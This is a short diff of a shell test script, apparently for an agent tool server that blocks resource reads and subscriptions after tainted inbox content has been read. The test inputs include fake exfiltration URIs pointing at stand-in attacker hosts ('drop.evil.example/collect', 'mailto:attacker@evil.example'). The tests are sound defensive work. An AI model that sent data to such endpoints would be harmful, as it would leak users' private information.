@@ -89,7 +89,7 @@ call "$id" read_inbox
 expect_line "$(f_result "$id")"
 id=$((id + 1))
 blocked resources/read '{"uri":"fetch://https://drop.evil.example/collect"}' \
-    "an address in argument uri='drop.evil.example' $TAINTED"
+    "an address in argument uri='fetch://https://drop.evil.example/collect' $TAINTED"
 blocked resources/subscribe '{"uri":"fetch://https://drop.evil.example/x"}' \
     "$TAINTED"
 blocked resources/read '{"uri":"fetch://mailto:attacker@evil.example"}' \
